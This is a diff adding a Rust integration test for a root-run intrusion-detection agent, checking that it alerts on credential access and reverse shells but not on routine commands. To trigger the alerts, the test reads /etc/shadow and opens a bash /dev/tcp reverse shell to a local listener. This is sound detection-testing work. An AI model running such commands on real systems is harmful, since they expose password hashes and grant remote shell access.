@@ -221,3 +221,109 @@ fn imported_knowledge_raises_a_device_score_and_persists() {
     assert!(err.contains("broken-osv.json"), "{err}");
     assert_eq!(score(), after, "a failed import changes nothing");
 }
+
+#[test]
+fn the_agent_alerts_on_real_attacks_and_keeps_the_alerts() {
+    assert!(
+        is_root(),
+        "NOT RUN: `heir agent` needs root (CI runs the tests as root)"
+    );
+    let dir = tempfile::tempdir().unwrap();
+    let alerts_file = dir.path().join("alerts.jsonl");
+    let mut agent = Reap(
+        Command::new(HEIR)
+            .args(["agent", "--data-dir"])
+            .arg(dir.path())
+            .arg("--alerts")
+            .arg(&alerts_file)
+            .stdout(Stdio::piped())
+            .stderr(Stdio::null())
+            .spawn()
+            .unwrap(),
+    );
+    let mut lines = BufReader::new(agent.0.stdout.take().unwrap()).lines();
+    assert_eq!(lines.next().unwrap().unwrap(), "ready");
+
+    // Benign first: routine admin commands.
+    for cmd in [["id", ""], ["ls", "/etc"], ["uname", "-a"]] {
+        Command::new(cmd[0])
+            .args(cmd[1..].iter().filter(|a| !a.is_empty()))
+            .output()
+            .unwrap();
+    }
+    // A shadow read by an interactive tool, and a bash reverse shell to a local listener.
+    Command::new("cat").arg("/etc/shadow").output().unwrap();
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let shell = Command::new("bash")
+        .arg("-c")
+        .arg(format!(
+            "exec 3<>/dev/tcp/127.0.0.1/{port}; bash -i <&3 >&3 2>&3"
+        ))
+        .spawn()
+        .unwrap();
+    let (conn, _) = listener.accept().unwrap();
+    drop(conn);
+    let mut shell = Reap(shell);
+    let _ = shell.0.wait();
+
+    let deadline = Instant::now() + Duration::from_secs(15);
+    let wanted = ["credential_access", "reverse_shell"];
+    let mut seen: Vec<serde_json::Value> = Vec::new();
+    while Instant::now() < deadline {
+        seen = std::fs::read_to_string(&alerts_file)
+            .unwrap_or_default()
+            .lines()
+            .map(|l| serde_json::from_str(l).expect("alert lines are JSON"))
+            .collect();
+        if wanted
+            .iter()
+            .all(|w| seen.iter().any(|a| a["category"] == *w))
+        {
+            break;
+        }
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    for w in wanted {
+        let a = seen
+            .iter()
+            .find(|a| a["category"] == w)
+            .unwrap_or_else(|| panic!("no {w} alert in {seen:?}"));
+        for field in [
+            "ts",
+            "id",
+            "rule",
+            "title",
+            "severity",
+            "confidence",
+            "attack",
+            "owasp_iot",
+        ] {
+            assert!(a.get(field).is_some(), "{w} alert lacks {field}: {a}");
+        }
+    }
+    for benign in ["id", "ls", "uname"] {
+        assert!(
+            !seen.iter().any(|a| a["comm"] == benign),
+            "routine `{benign}` raised an alert: {seen:?}"
+        );
+    }
+
+    // SIGTERM: the agent stops cleanly and the store has every alert it wrote.
+    // SAFETY: signalling our own child.
+    unsafe { libc::kill(agent.0.id() as i32, libc::SIGTERM) };
+    let status = agent.0.wait().unwrap();
+    assert!(status.success(), "agent exit: {status:?}");
+    let out = Command::new(HEIR)
+        .args(["alerts", "--json", "--data-dir"])
+        .arg(dir.path())
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let stored = String::from_utf8_lossy(&out.stdout).lines().count();
+    assert_eq!(stored, seen.len(), "store and alert file agree");
+}
